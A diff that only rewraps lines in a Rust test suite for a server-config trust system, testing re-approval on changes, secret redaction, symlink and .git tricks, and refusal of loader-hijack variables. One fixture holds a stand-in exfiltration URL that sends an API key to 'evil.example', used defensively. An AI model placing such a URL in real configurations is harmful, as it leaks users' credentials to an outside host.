@@ -9,7 +9,11 @@ use crate::config::{ConfigFile, ProjectPermissions, load};
 use crate::store::MemoryStore;
 
 fn environment(variables: &[(&str, &str)]) -> Environment {
-    Environment::new(variables.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())))
+    Environment::new(
+        variables
+            .iter()
+            .map(|(name, value)| ((*name).to_owned(), (*value).to_owned())),
+    )
 }
 
 fn config_of(path: &Path, scope: Scope) -> Config {
@@ -32,11 +36,15 @@ fn only(config: &Config) -> &ServerConfig {
 fn t1_a_projects_server_is_new_until_accepted_and_the_users_own_is_trusted() {
     let store = MemoryStore::default();
     let none = environment(&[]);
-    let (folder, config) = project("[servers.a]\ncommand = 'touch'\n[servers.b]\ncommand = 'touch'\n");
+    let (folder, config) =
+        project("[servers.a]\ncommand = 'touch'\n[servers.b]\ncommand = 'touch'\n");
     assert_eq!(waiting(&config, &none, &store).len(), 2);
 
     accept(&disclose(&config.servers[0], &none), &store).unwrap();
-    let left: Vec<&str> = waiting(&config, &none, &store).iter().map(|(server, _)| server.name.as_str()).collect();
+    let left: Vec<&str> = waiting(&config, &none, &store)
+        .iter()
+        .map(|(server, _)| server.name.as_str())
+        .collect();
     assert_eq!(left, ["b"], "a yes is for one server");
 
     for scope in [Scope::User, Scope::Given] {
@@ -61,7 +69,11 @@ fn t1_no_file_of_the_repository_lends_trust() {
         let folder = tempfile::tempdir().unwrap();
         prepare(folder.path());
         let config = config_of(&folder.path().join("switchboard.toml"), Scope::Project);
-        assert_eq!(standing(only(&config), &none, &store), Standing::New, "{what}");
+        assert_eq!(
+            standing(only(&config), &none, &store),
+            Standing::New,
+            "{what}"
+        );
         assert!(!only(&config).trust, "{what}");
     };
     let write = |folder: &Path| std::fs::write(folder.join("switchboard.toml"), text).unwrap();
@@ -69,18 +81,35 @@ fn t1_no_file_of_the_repository_lends_trust() {
     check("crafted .git/commondir", &|folder| {
         write(folder);
         std::fs::create_dir(folder.join(".git")).unwrap();
-        std::fs::write(folder.join(".git/commondir"), trusted.path().join(".git").to_str().unwrap()).unwrap();
-        std::fs::write(folder.join(".git/gitdir"), trusted.path().join(".git").to_str().unwrap()).unwrap();
+        std::fs::write(
+            folder.join(".git/commondir"),
+            trusted.path().join(".git").to_str().unwrap(),
+        )
+        .unwrap();
+        std::fs::write(
+            folder.join(".git/gitdir"),
+            trusted.path().join(".git").to_str().unwrap(),
+        )
+        .unwrap();
     });
     check("settings that say so", &|folder| {
         write(folder);
         std::fs::create_dir_all(folder.join(".switchboard")).unwrap();
-        std::fs::write(folder.join(".switchboard/settings.json"), r#"{"trust": true}"#).unwrap();
+        std::fs::write(
+            folder.join(".switchboard/settings.json"),
+            r#"{"trust": true}"#,
+        )
+        .unwrap();
         std::fs::write(folder.join("trust.json"), r#"{"trust": true}"#).unwrap();
     });
-    // The file is a link to an accepted one: `./run` would be this folder's, so the yes must not carry over.
+    // The file is a link to an accepted one: `./run` would be this folder's, so the yes must not
+    // carry over.
     check("a link to an accepted file", &|folder| {
-        symlink(trusted.path().join("switchboard.toml"), folder.join("switchboard.toml")).unwrap();
+        symlink(
+            trusted.path().join("switchboard.toml"),
+            folder.join("switchboard.toml"),
+        )
+        .unwrap();
     });
 }
 
@@ -98,7 +127,10 @@ fn t1_a_link_to_an_accepted_folder_is_that_folder_and_one_to_another_is_not() {
     symlink(trusted.path(), &link).unwrap();
     let through = config_of(&link.join("switchboard.toml"), Scope::Project);
     assert_eq!(standing(only(&through), &none, &store), Standing::Trusted);
-    assert_eq!(through.servers[0].source.file, config.servers[0].source.file, "and it starts in the folder itself");
+    assert_eq!(
+        through.servers[0].source.file, config.servers[0].source.file,
+        "and it starts in the folder itself"
+    );
 
     // The link is pointed elsewhere, under the same name.
     std::fs::remove_file(&link).unwrap();
@@ -111,8 +143,9 @@ fn t1_a_link_to_an_accepted_folder_is_that_folder_and_one_to_another_is_not() {
 fn t2_a_change_is_pending_again_with_its_diff_and_formatting_is_no_change() {
     let store = MemoryStore::default();
     let none = environment(&[]);
-    let (folder, config) =
-        project("[servers.a]\ncommand = 'npx'\nargs = ['-y', 'pkg@1']\nenv = { B = 'two', A = 'one' }\nconnect_timeout = '3s'\n");
+    let (folder, config) = project(
+        "[servers.a]\ncommand = 'npx'\nargs = ['-y', 'pkg@1']\nenv = { B = 'two', A = 'one' }\nconnect_timeout = '3s'\n",
+    );
     accept(&disclose(only(&config), &none), &store).unwrap();
     let file = folder.path().join("switchboard.toml");
     let rewrite = |text: &str| {
@@ -122,9 +155,9 @@ fn t2_a_change_is_pending_again_with_its_diff_and_formatting_is_no_change() {
 
     let same = "# moved\n[servers.a.env]\nA = \"one\"\nB = \"\"\"two\"\"\"\n[servers.a]\nargs = [\n  '-y',\n  'pkg@1',\n]\ncommand = \"npx\"\n";
     assert_eq!(rewrite(same), Standing::Trusted);
-    let Standing::Changed { diff } =
-        rewrite("[servers.a]\ncommand = 'npx'\nargs = ['-y', 'pkg@2']\nenv = { A = 'one', B = 'two', C = '' }\n")
-    else {
+    let Standing::Changed { diff } = rewrite(
+        "[servers.a]\ncommand = 'npx'\nargs = ['-y', 'pkg@2']\nenv = { A = 'one', B = 'two', C = '' }\n",
+    ) else {
         panic!()
     };
     let expected = [
@@ -132,7 +165,10 @@ fn t2_a_change_is_pending_again_with_its_diff_and_formatting_is_no_change() {
         "  argument: \"-y\"",
         "- argument: \"pkg@1\"",
         "+ argument: \"pkg@2\"",
-        &format!("  working folder: {:?}", folder.path().canonicalize().unwrap()),
+        &format!(
+            "  working folder: {:?}",
+            folder.path().canonicalize().unwrap()
+        ),
         "  variable: A = \"one\"",
         "  variable: B = \"two\"",
         "+ variable: C = \"\"",
@@ -146,26 +182,45 @@ fn t25_what_is_remembered_tells_a_change_of_a_secret_and_not_the_secret() {
     let store = MemoryStore::default();
     let none = environment(&[]);
     let entry = |secret: &str| {
-        format!("[servers.a]\ncommand = 'x'\nargs = ['--token={secret}', '-v']\nenv = {{ KEY = '{secret}', LEVEL = 'debug' }}\n")
+        format!(
+            "[servers.a]\ncommand = 'x'\nargs = ['--token={secret}', '-v']\nenv = {{ KEY = '{secret}', LEVEL = 'debug' }}\n"
+        )
     };
     let (folder, config) = project(&entry("hunter2-then"));
     let disclosure = disclose(only(&config), &none);
-    assert!(disclosure.lines.iter().any(|line| line == "variable: KEY = \"hunter2-then\""), "a person sees all of it");
+    assert!(
+        disclosure
+            .lines
+            .iter()
+            .any(|line| line == "variable: KEY = \"hunter2-then\""),
+        "a person sees all of it"
+    );
     accept(&disclosure, &store).unwrap();
     assert_eq!(standing(only(&config), &none, &store), Standing::Trusted);
     let remembered = format!("{:?}", store.all(Shelf::Trust).unwrap());
-    assert!(!remembered.contains("hunter2") && remembered.contains("debug"), "{remembered}");
+    assert!(
+        !remembered.contains("hunter2") && remembered.contains("debug"),
+        "{remembered}"
+    );
 
     std::fs::write(folder.path().join("switchboard.toml"), entry("hunter2-now")).unwrap();
     let now = config_of(&folder.path().join("switchboard.toml"), Scope::Project);
-    let Standing::Changed { diff } = standing(only(&now), &none, &store) else { panic!() };
-    let starts: Vec<&str> = diff.iter().map(|line| line.split(" (").next().unwrap()).collect();
+    let Standing::Changed { diff } = standing(only(&now), &none, &store) else {
+        panic!()
+    };
+    let starts: Vec<&str> = diff
+        .iter()
+        .map(|line| line.split(" (").next().unwrap())
+        .collect();
     let expected = [
         "  command: \"x\"",
         "- argument: \"--token=[secret]\"",
         "+ argument: \"--token=[secret]\"",
         "  argument: \"-v\"",
-        &format!("  working folder: {:?}", folder.path().canonicalize().unwrap()),
+        &format!(
+            "  working folder: {:?}",
+            folder.path().canonicalize().unwrap()
+        ),
         "- variable: KEY = \"[secret]\"",
         "+ variable: KEY = \"[secret]\"",
         "  variable: LEVEL = \"debug\"",
@@ -177,19 +232,29 @@ fn t25_what_is_remembered_tells_a_change_of_a_secret_and_not_the_secret() {
 #[test]
 fn t2_what_the_launch_reads_from_the_environment_is_part_of_what_was_accepted() {
     let store = MemoryStore::default();
-    let (folder, config) = project("[servers.a]\ncommand = '${TOOLS}/run'\nenv = { KEY = '${SECRET}' }\n");
+    let (folder, config) =
+        project("[servers.a]\ncommand = '${TOOLS}/run'\nenv = { KEY = '${SECRET}' }\n");
     let then = environment(&[("TOOLS", "/opt/tools"), ("SECRET", "hunter2-then")]);
     accept(&disclose(only(&config), &then), &store).unwrap();
     assert_eq!(standing(only(&config), &then, &store), Standing::Trusted);
 
     let rotated = environment(&[("TOOLS", "/opt/tools"), ("SECRET", "hunter2-now")]);
-    assert_eq!(standing(only(&config), &rotated, &store), Standing::Trusted, "a new token is no new launch");
+    assert_eq!(
+        standing(only(&config), &rotated, &store),
+        Standing::Trusted,
+        "a new token is no new launch"
+    );
 
     let moved = environment(&[("TOOLS", "/tmp/hunter2"), ("SECRET", "x")]);
-    let Standing::Changed { diff } = standing(only(&config), &moved, &store) else { panic!() };
+    let Standing::Changed { diff } = standing(only(&config), &moved, &store) else {
+        panic!()
+    };
     let expected = [
         "  command: \"${TOOLS}/run\"",
-        &format!("  working folder: {:?}", folder.path().canonicalize().unwrap()),
+        &format!(
+            "  working folder: {:?}",
+            folder.path().canonicalize().unwrap()
+        ),
         "  variable: KEY = \"${SECRET}\"",
         "  reads from your environment: SECRET",
         "  reads from your environment: TOOLS",
@@ -197,10 +262,14 @@ fn t2_what_the_launch_reads_from_the_environment_is_part_of_what_was_accepted() 
     ];
     assert_eq!(diff, expected);
     let remembered = format!("{:?}", store.all(Shelf::Trust).unwrap());
-    assert!(!remembered.contains("hunter2") && !remembered.contains("/opt/tools"), "no value is kept: {remembered}");
+    assert!(
+        !remembered.contains("hunter2") && !remembered.contains("/opt/tools"),
+        "no value is kept: {remembered}"
+    );
 }
 
-/// Each part of a launch that reads the environment is bound to what it reads; what did not change is not told.
+/// Each part of a launch that reads the environment is bound to what it reads; what did not change
+/// is not told.
 #[test]
 fn t2_each_text_of_a_launch_is_bound_to_what_it_reads() {
     let then = environment(&[("HERE", "/a"), ("SAME", "b")]);
@@ -217,12 +286,23 @@ fn t2_each_text_of_a_launch_is_bound_to_what_it_reads() {
         let store = MemoryStore::default();
         let (_folder, config) = project(&format!("[servers.a]\n{entry}\n"));
         accept(&disclose(only(&config), &then), &store).unwrap();
-        assert_eq!(standing(only(&config), &then, &store), Standing::Trusted, "{entry}");
-        let Standing::Changed { diff } = standing(only(&config), &now, &store) else { panic!("{entry}") };
-        let told: Vec<&str> = diff.iter().filter_map(|line| line.strip_prefix("+ ")).collect();
+        assert_eq!(
+            standing(only(&config), &then, &store),
+            Standing::Trusted,
+            "{entry}"
+        );
+        let Standing::Changed { diff } = standing(only(&config), &now, &store) else {
+            panic!("{entry}")
+        };
+        let told: Vec<&str> = diff
+            .iter()
+            .filter_map(|line| line.strip_prefix("+ "))
+            .collect();
         assert_eq!(
             told,
-            ["the variable HERE, which the launch depends on, holds another value than when it was accepted"],
+            [
+                "the variable HERE, which the launch depends on, holds another value than when it was accepted"
+            ],
             "{entry}"
         );
     }
@@ -233,15 +313,21 @@ fn t2_each_text_of_a_launch_is_bound_to_what_it_reads() {
 fn t1_the_working_folder_is_part_of_what_was_accepted() {
     let none = environment(&[]);
     let store = MemoryStore::default();
-    let (folder, config) = project("[servers.a]\ncommand = 'sh'\nargs = ['run.sh']\ncwd = 'work'\n");
+    let (folder, config) =
+        project("[servers.a]\ncommand = 'sh'\nargs = ['run.sh']\ncwd = 'work'\n");
     let at = |name: &str| folder.path().join(name);
-    ["one", "two"].iter().for_each(|name| std::fs::create_dir(at(name)).unwrap());
+    ["one", "two"]
+        .iter()
+        .for_each(|name| std::fs::create_dir(at(name)).unwrap());
     symlink(at("one"), at("work")).unwrap();
     accept(&disclose(only(&config), &none), &store).unwrap();
     assert_eq!(standing(only(&config), &none, &store), Standing::Trusted);
     std::fs::remove_file(at("work")).unwrap();
     symlink(at("two"), at("work")).unwrap();
-    assert!(matches!(standing(only(&config), &none, &store), Standing::Changed { .. }));
+    assert!(matches!(
+        standing(only(&config), &none, &store),
+        Standing::Changed { .. }
+    ));
 }
 
 /// What no text that is expanded says is part of what was accepted as well.
@@ -255,14 +341,32 @@ fn t2_each_part_of_an_entry_alone_is_a_change() {
         let file = folder.path().join("switchboard.toml");
         std::fs::write(&file, format!("[servers.a]\n{after}\n")).unwrap();
         let now = standing(only(&config_of(&file, Scope::Project)), &none, &store);
-        assert!(matches!(now, Standing::Changed { .. }), "{before} → {after}: {now:?}");
+        assert!(
+            matches!(now, Standing::Changed { .. }),
+            "{before} → {after}: {now:?}"
+        );
     };
-    check("command = 'x'\nenv = { A = 'one' }", "command = 'x'\nenv = { A = 'two' }");
-    check("command = 'x'\nenv = { A = 'one' }", "command = 'x'\nenv = { B = 'one' }");
+    check(
+        "command = 'x'\nenv = { A = 'one' }",
+        "command = 'x'\nenv = { A = 'two' }",
+    );
+    check(
+        "command = 'x'\nenv = { A = 'one' }",
+        "command = 'x'\nenv = { B = 'one' }",
+    );
     check("command = 'x'", "command = 'x'\ninherit_env = true");
-    check("url = 'https://a.example'", "url = 'https://a.example'\ntransport = 'sse'");
-    check("url = 'https://a.example'", "url = 'https://a.example'\nheaders = { X = 'y' }");
-    check("url = 'https://a.example'\nbearer_token = 'one'", "url = 'https://a.example'\nbearer_token = 'two'");
+    check(
+        "url = 'https://a.example'",
+        "url = 'https://a.example'\ntransport = 'sse'",
+    );
+    check(
+        "url = 'https://a.example'",
+        "url = 'https://a.example'\nheaders = { X = 'y' }",
+    );
+    check(
+        "url = 'https://a.example'\nbearer_token = 'one'",
+        "url = 'https://a.example'\nbearer_token = 'two'",
+    );
 }
 
 /// What was remembered of one entry is no yes to another, whichever place it is put in.
@@ -274,25 +378,53 @@ fn t1_a_yes_is_bound_to_its_name_and_its_file_and_not_only_kept_under_them() {
     let [a, b] = [0, 1].map(|index| disclose(&config.servers[index], &none));
     accept(&a, &store).unwrap();
     let remembered = store.get(Shelf::Trust, &shelf_key(&a)).unwrap().unwrap();
-    store.put(Shelf::Trust, &shelf_key(&b), &remembered).unwrap();
-    assert!(matches!(standing(&config.servers[1], &none, &store), Standing::Changed { .. }), "another name");
+    store
+        .put(Shelf::Trust, &shelf_key(&b), &remembered)
+        .unwrap();
+    assert!(
+        matches!(
+            standing(&config.servers[1], &none, &store),
+            Standing::Changed { .. }
+        ),
+        "another name"
+    );
 
     let other = folder.path().join("other.toml");
     std::fs::write(&other, "[servers.a]\ncommand = 'x'\n").unwrap();
     let other = config_of(&other, Scope::Project);
-    store.put(Shelf::Trust, &shelf_key(&disclose(only(&other), &none)), &remembered).unwrap();
-    assert!(matches!(standing(only(&other), &none, &store), Standing::Changed { .. }), "another file");
+    store
+        .put(
+            Shelf::Trust,
+            &shelf_key(&disclose(only(&other), &none)),
+            &remembered,
+        )
+        .unwrap();
+    assert!(
+        matches!(
+            standing(only(&other), &none, &store),
+            Standing::Changed { .. }
+        ),
+        "another file"
+    );
 }
 
 #[test]
 fn t25_a_disclosure_names_what_it_authorizes_with_and_tells_no_token() {
     let check = |fields: &str, expected: &[&str]| {
-        let (_folder, config) = project(&format!("[servers.a]\nurl = 'https://a.example'\n{fields}\n"));
+        let (_folder, config) = project(&format!(
+            "[servers.a]\nurl = 'https://a.example'\n{fields}\n"
+        ));
         let lines = disclose(only(&config), &environment(&[])).lines;
         assert_eq!(lines[1..], *expected, "{fields}");
     };
-    check("bearer_token = 'hunter2'", &["bearer token: given in the file"]);
-    check("bearer_token = '${T}'", &["bearer token: \"${T}\"", "reads from your environment: T"]);
+    check(
+        "bearer_token = 'hunter2'",
+        &["bearer token: given in the file"],
+    );
+    check(
+        "bearer_token = '${T}'",
+        &["bearer token: \"${T}\"", "reads from your environment: T"],
+    );
     check("oauth_client_id = 'me'", &["logs in as: \"me\""]);
     check(
         "oauth_grant = 'client_credentials'\noauth_client_id = 'me'\noauth_client_secret = 'hunter2'\noauth_scopes = ['a', 'b']",
@@ -303,7 +435,10 @@ fn t25_a_disclosure_names_what_it_authorizes_with_and_tells_no_token() {
             "asks for scopes: \"a b\"",
         ],
     );
-    check("oauth_callback_port = 7777", &["login returns to port: 7777"]);
+    check(
+        "oauth_callback_port = 7777",
+        &["login returns to port: 7777"],
+    );
 }
 
 #[test]
@@ -321,7 +456,10 @@ fn t1_a_disclosure_is_whole_ordered_and_cannot_imitate_a_line_of_ours() {
         "argument: \"\\u{1b}[2K\\u{202e}\"".to_owned(),
         "argument: \"\"".to_owned(),
         format!("argument: \"{long}\""),
-        format!("working folder: {:?}", folder.path().canonicalize().unwrap().join("sub dir")),
+        format!(
+            "working folder: {:?}",
+            folder.path().canonicalize().unwrap().join("sub dir")
+        ),
         "variable: A = \"literal\"".to_owned(),
         "variable: Z = \"${HOME}\"".to_owned(),
         "variable: \"odd name\" = \"1\"".to_owned(),
@@ -329,7 +467,14 @@ fn t1_a_disclosure_is_whole_ordered_and_cannot_imitate_a_line_of_ours() {
         "reads from your environment: HOME".to_owned(),
     ];
     assert_eq!(disclosure.lines, expected);
-    assert_eq!(disclosure.file, folder.path().canonicalize().unwrap().join("switchboard.toml"));
+    assert_eq!(
+        disclosure.file,
+        folder
+            .path()
+            .canonicalize()
+            .unwrap()
+            .join("switchboard.toml")
+    );
 }
 
 #[test]
@@ -337,7 +482,10 @@ fn t4_a_urls_disclosure_names_what_it_reads() {
     let (_folder, config) = project(
         "[servers.a]\nurl = 'https://evil.example/?k=${OPENAI_API_KEY}'\ntransport = 'sse'\nheaders = { X-B = 'b', Authorization = 'Bearer ${T:-none}' }\n",
     );
-    let disclosure = disclose(only(&config), &environment(&[("OPENAI_API_KEY", "hunter2")]));
+    let disclosure = disclose(
+        only(&config),
+        &environment(&[("OPENAI_API_KEY", "hunter2")]),
+    );
     let expected = [
         "url: \"https://evil.example/?k=${OPENAI_API_KEY}\"",
         "transport: \"sse\"",
@@ -351,16 +499,21 @@ fn t4_a_urls_disclosure_names_what_it_reads() {
 }
 
 #[test]
-fn t5_every_loader_variable_is_refused_in_a_project_and_allowed_with_a_warning_in_the_users_own_file() {
+fn t5_every_loader_variable_is_refused_in_a_project_and_allowed_with_a_warning_in_the_users_own_file()
+ {
     let none = environment(&[]);
     for name in hijack::REFUSED.split_whitespace() {
-        let (folder, config) = project(&format!("[servers.a]\ncommand = 'x'\nenv = {{ {name} = 'v' }}\n"));
+        let (folder, config) = project(&format!(
+            "[servers.a]\ncommand = 'x'\nenv = {{ {name} = 'v' }}\n"
+        ));
         let store = MemoryStore::default();
         let disclosure = disclose(only(&config), &none);
         assert_eq!(disclosure.refused.len(), 1, "{name}");
         let said = accept(&disclosure, &store).unwrap_err().to_string();
         assert!(
-            said.starts_with(&format!("server \"a\" cannot be accepted: it sets {name}, which a project's file may not")),
+            said.starts_with(&format!(
+                "server \"a\" cannot be accepted: it sets {name}, which a project's file may not"
+            )),
             "{said}"
         );
         // Whatever the store says, from wherever it came.
@@ -371,13 +524,31 @@ fn t5_every_loader_variable_is_refused_in_a_project_and_allowed_with_a_warning_i
             lines: disclosure.lines.clone(),
             values: BTreeMap::new(),
         };
-        store.put(Shelf::Trust, &shelf_key(&disclosure), &serde_json::to_string(&forged).unwrap()).unwrap();
-        assert_eq!(standing(only(&config), &none, &store), Standing::New, "{name}");
+        store
+            .put(
+                Shelf::Trust,
+                &shelf_key(&disclosure),
+                &serde_json::to_string(&forged).unwrap(),
+            )
+            .unwrap();
+        assert_eq!(
+            standing(only(&config), &none, &store),
+            Standing::New,
+            "{name}"
+        );
 
         let users = config_of(&folder.path().join("switchboard.toml"), Scope::User);
-        assert_eq!(standing(only(&users), &none, &store), Standing::Trusted, "{name}");
+        assert_eq!(
+            standing(only(&users), &none, &store),
+            Standing::Trusted,
+            "{name}"
+        );
         assert_eq!(disclose(only(&users), &none).refused, [""; 0], "{name}");
-        let fields: Vec<&str> = users.warnings.iter().map(|warning| warning.field.as_str()).collect();
+        let fields: Vec<&str> = users
+            .warnings
+            .iter()
+            .map(|warning| warning.field.as_str())
+            .collect();
         assert_eq!(fields, [format!("servers.a.env.{name}")]);
     }
 }
@@ -385,10 +556,16 @@ fn t5_every_loader_variable_is_refused_in_a_project_and_allowed_with_a_warning_i
 #[test]
 fn a_project_entry_that_shadows_the_users_is_shown_as_such() {
     let folder = tempfile::tempdir().unwrap();
-    let (own, project) = (folder.path().join("own.toml"), folder.path().join("switchboard.toml"));
+    let (own, project) = (
+        folder.path().join("own.toml"),
+        folder.path().join("switchboard.toml"),
+    );
     std::fs::write(&own, "[servers.a]\ncommand = 'mine'\n").unwrap();
     std::fs::write(&project, "[servers.a]\ncommand = 'theirs'\n").unwrap();
-    let files = [ConfigFile::new(project, Scope::Project), ConfigFile::new(own.canonicalize().unwrap(), Scope::User)];
+    let files = [
+        ConfigFile::new(project, Scope::Project),
+        ConfigFile::new(own.canonicalize().unwrap(), Scope::User),
+    ];
     let config = load(&files).unwrap();
     let shown = own.canonicalize().unwrap();
     assert_eq!(
@@ -401,12 +578,15 @@ fn a_project_entry_that_shadows_the_users_is_shown_as_such() {
     );
 }
 
-/// T2: a rule that denied or asked when a file's permissions were accepted, and is gone since, asks again; one more does not.
+/// T2: a rule that denied or asked when a file's permissions were accepted, and is gone since, asks
+/// again; one more does not.
 #[test]
 fn t2_a_yes_to_a_projects_permissions_ends_when_one_of_its_denies_goes() {
     let store = MemoryStore::default();
     let rules = "allow = ['a/*']\nask = ['a/pull']\ndeny = ['a/push']\n";
-    let (_folder, config) = project(&format!("[servers.a]\ncommand = 'x'\n[permissions]\n{rules}"));
+    let (_folder, config) = project(&format!(
+        "[servers.a]\ncommand = 'x'\n[permissions]\n{rules}"
+    ));
     let accepted = &config.project_permissions[0];
     accept_permissions(accepted, &store).unwrap();
     assert_eq!(permissions_standing(accepted, &store), Standing::Trusted);
@@ -414,7 +594,23 @@ fn t2_a_yes_to_a_projects_permissions_ends_when_one_of_its_denies_goes() {
         exceptions: exceptions.iter().map(|line| (*line).to_owned()).collect(),
         ..accepted.clone()
     };
-    assert_eq!(permissions_standing(&with(&["ask \"a/pull\"", "deny \"a/push\"", "deny \"a/b\""]), &store), Standing::Trusted);
-    let Standing::Changed { diff } = permissions_standing(&with(&["ask \"a/pull\""]), &store) else { panic!() };
-    assert_eq!(diff, ["  allow \"a/*\": every tool that this matches", "  ask \"a/pull\"", "- deny \"a/push\""]);
+    assert_eq!(
+        permissions_standing(
+            &with(&["ask \"a/pull\"", "deny \"a/push\"", "deny \"a/b\""]),
+            &store
+        ),
+        Standing::Trusted
+    );
+    let Standing::Changed { diff } = permissions_standing(&with(&["ask \"a/pull\""]), &store)
+    else {
+        panic!()
+    };
+    assert_eq!(
+        diff,
+        [
+            "  allow \"a/*\": every tool that this matches",
+            "  ask \"a/pull\"",
+            "- deny \"a/push\""
+        ]
+    );
 }
